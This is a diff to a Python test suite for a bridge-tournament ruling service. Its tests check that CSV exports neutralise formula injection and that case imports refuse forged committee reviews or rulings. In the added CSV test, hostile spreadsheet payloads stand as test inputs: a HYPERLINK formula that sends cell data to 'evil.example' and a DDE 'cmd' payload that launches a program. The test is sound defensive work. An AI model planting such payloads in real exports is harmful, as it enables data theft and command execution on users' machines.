@@ -12,7 +12,9 @@ solver is never called, so these tests are quick.
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import json
 from collections.abc import Iterator
 from typing import Any
 
@@ -20,10 +22,11 @@ import pytest
 from fastapi.testclient import TestClient
 
 from app.auth import add_user
+from app.cases import Number, cell
 from app.main import create_app
 from app.storage import open_repository
 from app.storage.cases import SqlUserRepository
-from engine.cases import Role
+from engine.cases import OPEN_MODE, NewCase, Role
 from engine.dd import SolverRunner
 from tests.helpers import SPONVO30_DEAL, SPONVO30_PLAY
 from tests.test_events import error, hand_record_file, new_event, upload
@@ -161,18 +164,15 @@ def test_rerun_reports_what_a_new_engine_changes_and_keeps_the_stored_ruling(cli
     case_id = created(client, case_body(event))
     r = client.post(f"/v1/cases/{case_id}/rerun")
     assert r.status_code == 200 and r.json()["same"] is True and r.json()["differences"] == []
-    # A case ruled by an older engine that (wrongly) transferred two tricks under 64A1: import it.
-    export = client.get(f"/v1/events/{event}/cases.json").json()
-    old = export["cases"][0]
-    old["engine_version"] = old["ruling"]["engine_version"] = "0.0.9"
-    old["ruling"]["revokes"][0] |= {"law": "64A1", "tricks_transferred": 2}
-    old["ruling"]["suggested"] |= {"declarer_tricks": 10, "result": "4H W =", "score_ns": -420, "law": "64A1"}
-    r = client.post("/v1/cases/import", json=export)
-    assert r.status_code == 201, r.text
-    new_event, new_id = r.json()["event"], r.json()["cases"][str(case_id)]
-    assert new_event != event
-    stored = client.get(f"/v1/cases/{new_id}").json()
-    assert stored["request"]["event"] == new_event and stored["engine_version"] == "0.0.9"
+    # A case ruled by an older engine that (wrongly) transferred two tricks under 64A1, as it was
+    # stored then (an import would refuse it now: tests/test_case_file.py::test_an_import_cannot_forge...).
+    mine = client.app.state.cases.get_case(case_id).data  # type: ignore[attr-defined]
+    ruling = json.loads(json.dumps(mine.ruling))
+    ruling["engine_version"] = "0.0.9"
+    ruling["revokes"][0] |= {"law": "64A1", "tricks_transferred": 2}
+    ruling["suggested"] |= {"declarer_tricks": 10, "result": "4H W =", "score_ns": -420, "law": "64A1"}
+    old = NewCase(mine.details, mine.kind, mine.request, ruling, "0.0.9", mine.laws_edition, -420, mine.table_ns)
+    new_id = client.app.state.cases.create_case(old, OPEN_MODE).id  # type: ignore[attr-defined]
     r = client.post(f"/v1/cases/{new_id}/rerun")
     out = r.json()
     assert out["same"] is False and out["engine_version_stored"] == "0.0.9"
@@ -181,7 +181,7 @@ def test_rerun_reports_what_a_new_engine_changes_and_keeps_the_stored_ruling(cli
     assert found["suggested/score_ns"] == (-420, 50)
     assert client.get(f"/v1/cases/{new_id}").json()["ruling"]["suggested"]["score_ns"] == -420  # never silently
     history = client.get(f"/v1/cases/{new_id}/history").json()
-    assert [h["action"] for h in history] == ["created", "rerun", "imported", "rerun"]  # the old one's rerun kept
+    assert [h["action"] for h in history] == ["created", "rerun"]
     assert history[-1]["change"]["same"] is False
 
 
@@ -215,6 +215,31 @@ def test_the_ruling_log_is_a_csv_line_per_case_by_board(client: TestClient, even
             line["review_score_ns"], line["final_score_ns"], line["final_result"]) == \
         ("9", "50", "50", "vary", "-620", "-620", "4H W =")
     assert client.get(f"/v1/cases?event={event}&board=21").json()[0]["id"] == late
+
+
+def test_the_ruling_log_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(client: TestClient,
+                                                                                 event: int) -> None:
+    # OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading quote;
+    # the figures (scores, the case id) are written from the stored numbers and stay numbers.
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    body = case_body(event, director=link, table="-3", round="+30",
+                     pairs={"ns": {"number": "12", "names": "+cmd|' /C calc'!A0"}, "ew": {"number": "@3"}})
+    case_id = created(client, body)
+    r = client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": -100, "result": "4H W -2", "law": "12C1(b)",
+                                                          "reason": "@SUM(1+1)"})
+    assert r.status_code == 200, r.text
+    assert client.get(f"/v1/cases/{case_id}").json()["director"] == link  # kept as given; only the CSV quotes it
+    line = next(csv.DictReader(io.StringIO(client.get(f"/v1/events/{event}/rulings.csv").text)))
+    assert (line["director"], line["reason"], line["ns_names"], line["ew_pair"], line["table"], line["round"]) == \
+        ("'" + link, "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'@3", "'-3", "'+30")
+    assert (line["decision_score_ns"], line["final_score_ns"], line["suggested_score_ns"], line["case"]) == \
+        ("-100", "-100", "50", str(case_id))  # numbers, not neutralised
+    assert line["decision_result"] == "4H W -2" and line["imported"] == ""
+    page = client.get(f"/events/{event}/rulings.csv").text  # the page's download: the same writer
+    assert "'=HYPERLINK" in page and "'@SUM(1+1)" in page
+    # A tab or a carriage return at the start (the case's fields are trimmed, so straight to the writer):
+    assert [cell(x) for x in ("\tx", "\rx", "-", "4H W -1", "")] == ["'\tx", "'\rx", "'-", "4H W -1", ""]
+    assert [cell(Number(-100)), cell(Number(-150.5)), cell(7)] == ["-100", "-150.5", "7"]
 
 
 @pytest.fixture
@@ -263,6 +288,93 @@ def test_with_tokens_configured_each_role_does_its_part(dds: SolverRunner, datab
         forged = tokens["director"][:-4] + "AAAA"
         error(c.get(f"/v1/cases/{case_id}", headers=bearer(forged)), 401, ["header", "Authorization"], "not valid")
         error(c.post("/v1/rulings/revoke", json={}), 401, ["header", "Authorization"])
+
+
+def test_an_import_cannot_forge_a_committee_review_or_a_ruling(dds: SolverRunner, database_url: str,
+                                                               tokens: dict[str, str]) -> None:
+    # A director alone edits an export so that a case reads "reviewed: uphold" by a committee that
+    # never sat, or carries a better suggestion: the import refuses the edits it can check and
+    # marks what it cannot (the review's author and time are the export's word, not the service's).
+    director = bearer(tokens["director"])
+    with TestClient(create_app(dds, database_url=database_url), raise_server_exceptions=False) as c:
+        event = c.post("/v1/events", json={"name": "Spring Pairs", "date": "2026-04-05"}, headers=director).json()["id"]
+        c.post(f"/v1/events/{event}/hand-records", headers=director,
+               files={"file": ("h.pbn", hand_record_file().encode("latin-1"))})
+        case_id = created(c, case_body(event), **director)
+        decided = c.post(f"/v1/cases/{case_id}/decision", headers=director,
+                         json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
+        assert decided.status_code == 200
+        decided_at = dt.datetime.fromisoformat(decided.json()["decision"]["recorded"]["at"])
+        genuine = c.get(f"/v1/events/{event}/cases.json", headers=director).json()
+
+        def forged(at: dt.datetime, **ruling: Any) -> dict[str, Any]:
+            export = json.loads(json.dumps(genuine))
+            case = export["cases"][0]
+            case["history"].append({"seq": 3, "at": at.isoformat(), "actor": "Appeals committee",
+                                    "role": "committee", "action": "review",
+                                    "change": REVIEW | {"members": ["Appeals committee"], "score": None}})
+            if ruling:
+                case["ruling"]["suggested"] |= ruling
+                case["suggested_ns"] = ruling["score_ns"]
+            return export
+
+        def refused(export: dict[str, Any], loc: list[Any], *words: str) -> None:
+            r = c.post("/v1/cases/import", json=export, headers=director)
+            error(r, 422, loc, f"case {case_id}", *words)
+
+        # The review dated before the decision it reviews: a history does not go back in time.
+        refused(forged(decided_at - dt.timedelta(hours=1)), ["body", "cases", 0, "history", 2, "at"],
+                "history entry 3", "before the entry above it")
+        # Dated after the import (the clock allows 5 minutes).
+        refused(forged(dt.datetime.now(dt.UTC) + dt.timedelta(days=1)), ["body", "cases", 0, "history", 2, "at"],
+                "after this import")
+        # A better suggestion for North-South (4H W -2, +100: no trick transferred) on the same request:
+        # the engine rules 4H W -1, +50 (64A2: the revoke trick was won by West, not the offending
+        # side, which won a later trick: one trick transferred, 8 + 1 = 9 tricks).
+        refused(forged(decided_at + dt.timedelta(minutes=1), declarer_tricks=8, result="4H W -2", score_ns=100),
+                ["body", "cases", 0, "ruling"], "board 21", "not what this engine", "suggested_ns (100 stored, 50 now)")
+        assert [x["id"] for x in c.get("/v1/cases", headers=director).json()] == [case_id]  # nothing stored
+
+        # What cannot be checked is marked: the review is the importer's, made now, with the committee
+        # named only as the export's word.
+        r = c.post("/v1/cases/import", json=forged(decided_at + dt.timedelta(minutes=1)), headers=director)
+        assert r.status_code == 201, r.text
+        new_id = r.json()["cases"][str(case_id)]
+        case = c.get(f"/v1/cases/{new_id}", headers=director).json()
+        assert case["status"] == "reviewed: uphold" and case["created_by"] == "Jan Kowalski"
+        recorded = case["reviews"][0]["recorded"]
+        assert (recorded["by"], recorded["imported"], recorded["original_by"]) == \
+            ("Jan Kowalski", True, "Appeals committee")
+        history = c.get(f"/v1/cases/{new_id}/history", headers=director).json()
+        assert [(h["action"], h["actor"], h["role"], h["imported"], h["original_actor"], h["original_role"])
+                for h in history] == [
+            ("created", "Jan Kowalski", "director", True, "Jan Kowalski", "director"),
+            ("decision", "Jan Kowalski", "director", True, "Jan Kowalski", "director"),
+            ("review", "Jan Kowalski", "director", True, "Appeals committee", "committee"),
+            ("imported", "Jan Kowalski", "director", False, None, None)]
+        assert dt.datetime.fromisoformat(history[1]["original_at"]) == decided_at
+        assert dt.datetime.fromisoformat(history[2]["original_at"]) == decided_at + dt.timedelta(minutes=1)
+        assert history[2]["at"] == history[3]["at"]  # the import's own time, not the export's
+        assert "imported_from" not in history[2]["change"]
+        log = next(csv.DictReader(io.StringIO(c.get(f"/v1/events/{r.json()['event']}/rulings.csv",
+                                                    headers=director).text)))
+        assert log["imported"].startswith("imported by Jan Kowalski at ")
+
+
+def test_a_genuine_export_imports_again_keeping_its_first_origin(client: TestClient, event: int) -> None:
+    case_id = created(client, case_body(event))
+    client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
+    client.post(f"/v1/cases/{case_id}/reviews", json=REVIEW)
+    first = client.post("/v1/cases/import", json=client.get(f"/v1/events/{event}/cases.json").json())
+    assert first.status_code == 201, first.text
+    again = client.post("/v1/cases/import",
+                        json=client.get(f"/v1/events/{first.json()['event']}/cases.json").json())
+    assert again.status_code == 201, again.text
+    history = client.get(f"/v1/cases/{again.json()['cases'][str(first.json()['cases'][str(case_id)])]}/history").json()
+    original = client.get(f"/v1/cases/{case_id}/history").json()
+    assert [h["action"] for h in history] == ["created", "decision", "review", "imported", "imported"]
+    assert all(h["imported"] for h in history[:4]) and not history[4]["imported"]
+    assert [h["original_at"] for h in history[:3]] == [h["at"] for h in original]  # the first origin, kept
 
 
 def test_tokens_are_stored_only_hashed_and_a_revoked_one_stops_working(database_url: str,
